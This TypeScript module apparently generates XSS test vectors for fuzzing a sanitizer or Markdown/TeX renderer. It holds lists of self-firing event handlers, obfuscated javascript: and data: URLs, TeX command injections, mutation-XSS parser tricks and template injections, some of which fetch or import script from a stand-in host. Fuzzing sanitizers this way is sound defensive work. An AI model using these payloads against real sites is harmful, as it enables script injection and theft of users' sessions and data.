import type { Chance } from './random.js';

/** Nobody's host (RFC 2606): whatever is asked of it came from a vector. */
export const FOREIGN = 'vectors.example';

const payloads: readonly ((id: number) => string)[] = [
  (id) => `alert(${id})`,
  (id) => `alert(${id})`,
  (id) => `alert\`${id}\``,
  (id) => `window.__x=${id}`,
  (id) => `top.__x=${id}`,
  (id) => `(0,eval)('alert(${id})')`,
  (id) => `setTimeout('alert(${id})')`,
  (id) => `fetch('//${FOREIGN}/${id}')`,
  (id) => `import('//${FOREIGN}/${id}')`,
  (id) => `location='//${FOREIGN}/${id}'`,
  (id) => `console.log('vector',${id})`,
  (id) => `[].constructor.constructor('alert(${id})')()`,
];

/** A script that tells its number. */
export const payloadOf = (id: number, chance: Chance): string => chance.pick(payloads)(id);

/** Attributes with which an event comes by itself. */
const selfStarting: readonly (readonly [tag: string, attributes: string, event: string])[] = [
  ['img', 'src=x:', 'onerror'],
  ['img', 'src=data:image/gif;base64,R0lGODlhAQABAAAAACw=', 'onload'],
  ['image', 'src=x:', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['body', '', 'onpageshow'],
  ['video', 'src=x:', 'onerror'],
  ['audio', 'src=x:', 'onerror'],
  ['video><source', 'src=x:', 'onerror'],
  ['details', 'open', 'ontoggle'],
  ['input', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['button', 'autofocus', 'onfocus'],
  ['a', 'href=# autofocus', 'onfocus'],
  ['x', 'tabindex=1 autofocus', 'onfocus'],
  ['iframe', 'src=about:blank', 'onload'],
  ['object', 'data=x:', 'onerror'],
  ['embed', 'src=about:blank', 'onload'],
  ['link', 'rel=stylesheet href=x:', 'onerror'],
  ['script', 'src=x:', 'onerror'],
  ['style', '', 'onload'],
  ['marquee', '', 'onstart'],
  ['svg><animate', 'attributeName=x dur=1s', 'onbegin'],
  ['svg><set', 'attributeName=x', 'onbegin'],
  ['svg><image', 'href=x:', 'onerror'],
  ['math><mtext><img', 'src=x:', 'onerror'],
  ['x', 'style=display:block', 'onmouseover'],
  ['form><input', 'type=image src=x:', 'onerror'],
];

const quotes = ['"', "'", '', '`'];

export function tagVector(payload: string, chance: Chance): string {
  const [tag, attributes, event] = chance.pick(selfStarting);
  const quote = payload.includes("'") ? '"' : chance.pick(quotes);
  const own = `${event}=${quote}${payload}${quote}`;
  const parts = chance.next() < 0.8 ? [attributes, own] : [own, attributes];
  const end = chance.pick(['>', '>', '/>', ' x>', '//>', '']);
  // Without its element: for a text that stands in an attribute.
  return chance.next() < 0.12 ? `" ${parts.join(' ')} x="` : `<${tag} ${parts.join(' ')}${end}`;
}

const schemes: readonly ((payload: string, id: number) => string)[] = [
  (payload) => `javascript:${payload}`,
  (payload) => `JaVaScRiPt:${payload}`,
  (payload) => `java\tscript:${payload}`,
  (payload) => `java\nscript:${payload}`,
  (payload) => `\u0001javascript:${payload}`,
  (payload) => `&#106;avascript:${payload}`,
  (payload) => `javascript&colon;${payload}`,
  (payload) => `javascript://%0a${payload}`,
  (payload) => `data:text/html,<script>parent.${payload}</script>`,
  (payload) => `data:text/html;base64,${Buffer.from(`<script>${payload}</script>`).toString('base64')}`,
  (payload) => `vbscript:${payload}`,
  (_payload, id) => `//${FOREIGN}/${id}`,
  (_payload, id) => `https://${FOREIGN}/${id}`,
  (_payload, id) => `\\\\${FOREIGN}\\${id}`,
];

const carriers: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => `<a href="${url}">x</a>`,
  (url) => `<iframe src="${url}"></iframe>`,
  (url) => `<iframe srcdoc="<script src='${url}'></script>">`,
  (url) => `<form action="${url}"><button>x</button></form>`,
  (url) => `<button form=x formaction="${url}">x</button>`,
  (url) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
  (url) => `<math href="${url}"><mi>x</mi></math>`,
  (url) => `<object data="${url}"></object>`,
  (url) => `<embed src="${url}">`,
  (url) => `<base href="${url}/">`,
  (url) => `<meta http-equiv=refresh content="0;url=${url}">`,
  (url) => `<link rel=stylesheet href="${url}">`,
  (url) => `<link rel=prefetch href="${url}">`,
  (url) => `<img src="${url}">`,
  (url) => `<script src="${url}"></script>`,
  (url) => `<style>@import "${url}";</style>`,
  (url) => `<p style="background:url(${url})">x</p>`,
  (url) => `<svg><use href="${url}#x"/></svg>`,
  (url) => `<area href="${url}" ping="${url}">`,
  (url) => `[x](${url})`,
  (url) => `![x](${url})`,
  (url) => `<${url}>`,
];

export const urlVector = (payload: string, id: number, chance: Chance): string =>
  chance.pick(carriers)(chance.pick(schemes)(payload, id));

const commands: readonly ((payload: string) => string)[] = [
  (payload) => `\\href{javascript:${payload}}{x}`,
  (payload) => `\\url{javascript:${payload}}`,
  (payload) => `\\htmlData{x=1" onload="${payload}}{x}`,
  (payload) => `\\htmlId{x" onclick="${payload}}{x}`,
  (payload) => `\\htmlClass{x" onclick="${payload}}{x}`,
  (payload) => `\\htmlStyle{background:url(javascript:${payload})}{x}`,
  (payload) => `\\class{x" autofocus onfocus="${payload}}{x}`,
  (payload) => `\\id{x" onclick="${payload}}{x}`,
  (payload) => `\\data{x=1" onclick="${payload}}{x}`,
  (payload) => `\\style{color:red" onclick="${payload}}{x}`,
  (payload) => `\\text{<img src=x: onerror="${payload}">}`,
  (payload) => `\\text{</mtext></math><img src=x: onerror="${payload}">}`,
  (payload) => `\\text{ style="<img src=x: onerror=${payload}>"}`,
  (payload) => `\\mathrm{<script>${payload}</script>}`,
  (payload) => `\\mbox{<script>${payload}</script>}`,
  (payload) => `\\operatorname{<img src=x: onerror=${payload}>}`,
  (payload) => `\\verb|<script>${payload}</script>|`,
  (payload) => `\\unicode{x3c}script\\unicode{x3e}${payload}`,
  (payload) => `\\char"3C script\\char"3E ${payload}`,
  (payload) => `\\color{red" onmouseover="${payload}}{x}`,
  (payload) => `\\textcolor{#fff;background:url(//vectors.example)}{${payload}}`,
  (payload) => `\\colorbox{red}{<script>${payload}</script>}`,
  (payload) => `\\includegraphics[width=1em]{javascript:${payload}}`,
  (payload) => `\\tag{<script>${payload}</script>} x`,
  (payload) => `\\label{x"><script>${payload}</script>} x`,
  (payload) => `\\ref{"><img src=x: onerror=${payload}>}`,
  (payload) => `\\def\\x{<script>${payload}</script>}\\x`,
  (payload) => `\\newcommand{\\x}[1]{<img src=x: onerror=#1>}\\x{${payload}}`,
  (payload) => `\\begin{array}{c" onload="${payload}} x \\end{array}`,
  (payload) => `\\begin{<script>} ${payload} \\end{<script>}`,
  (payload) => `\\rule{1em}{1em" onload="${payload}}`,
  (payload) => `\\undefinedcommand<img src=x: onerror=${payload}>`,
  (payload) => `x < y <script>${payload}</script>`,
  (payload) => `\\htmlmathml{<script>${payload}</script>}{<script>${payload}</script>}`,
];

const delimiters = [
  ['$', '$'],
  ['$', '$'],
  ['$$', '$$'],
  ['\\(', '\\)'],
  ['\\[', '\\]'],
  ['$', ''],
] as const;

export function texVector(payload: string, chance: Chance): string {
  const [open, close] = chance.pick(delimiters);
  const inner = chance.pick(commands)(payload);
  return `${open}${chance.next() < 0.2 ? `\\frac{a}{${inner}}` : inner}${close}`;
}

/** Whole pieces: scripts, comments, and what a parser builds otherwise than it reads. */
export const wholes: readonly ((payload: string, id: number) => string)[] = [
  (payload) => `<script>${payload}</script>`,
  (payload) => `<script>${payload}//`,
  (payload) => `<ScRiPt/x>${payload}</sCrIpT >`,
  (payload) => `<script type=module>${payload}</script>`,
  (_payload, id) => `<script src=//${FOREIGN}/${id}></script>`,
  (payload) => `</title><script>${payload}</script>`,
  (payload) => `<svg><script>${payload}</script></svg>`,
  (payload) => `<svg><script href="data:,${payload}"/></svg>`,
  (payload) => `<svg><style><img src=x: onerror="${payload}"></style></svg>`,
  (payload) => `<svg></p><style><a id="</style><img src=x: onerror=${payload}>">`,
  (payload) => `<svg><foreignObject><img src=x: onerror="${payload}"></foreignObject></svg>`,
  (payload) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${payload}&gt;">`,
  (payload) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror="${payload}"></style></mglyph></form>`,
  (payload) =>
    `<math><annotation-xml encoding="text/html"><img src=x: onerror="${payload}"></annotation-xml></math>`,
  (payload) => `<noscript><p title="</noscript><img src=x: onerror=${payload}>">`,
  (payload) => `<template><script>${payload}</script></template>`,
  (payload) => `<div><template shadowrootmode=open><script>${payload}</script></template></div>`,
  (payload) => `<select><option><style></option></select><img src=x: onerror="${payload}">`,
  (payload) => `<textarea></textarea><script>${payload}</script>`,
  (payload) => `<xmp></xmp><script>${payload}</script>`,
  (payload) => `<plaintext><script>${payload}</script>`,
  (payload) => `<!--><script>${payload}</script>-->`,
  (payload) => `<!-- --!><script>${payload}</script> -->`,
  (payload) => `<![CDATA[><script>${payload}</script>]]>`,
  (payload) => `<?xml-stylesheet href="javascript:${payload}"?><script>${payload}</script>`,
  (payload) => `<!DOCTYPE x [<!ENTITY x "<script>${payload}</script>">]>&x;`,
  (payload) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${payload}</x:script>`,
  (payload) => `<iframe srcdoc="&lt;script&gt;parent.${payload}&lt;/script&gt;"></iframe>`,
  (payload) => `<style>@keyframes x{}</style><p style="animation:x 1s" onanimationstart="${payload}">x`,
  (payload) => `<img src="x:" alt="\`><script>${payload}</script>">`,
  (payload) => `<a href="x" title="<script>${payload}</script>`,
  (payload) => `{{constructor.constructor('${payload.replaceAll("'", '"')}')()}}`,
  (payload) => `\${${payload}}`,
  (payload) => `<%= ${payload} %>`,
  (payload) => `"-${payload}-"`,
  (payload) => `';${payload}//`,
  (payload) => `</script><script>${payload}</script>`,
  (payload) => `<dialog open onclose="${payload}"><form method=dialog><button autofocus>x</button></form>`,
];
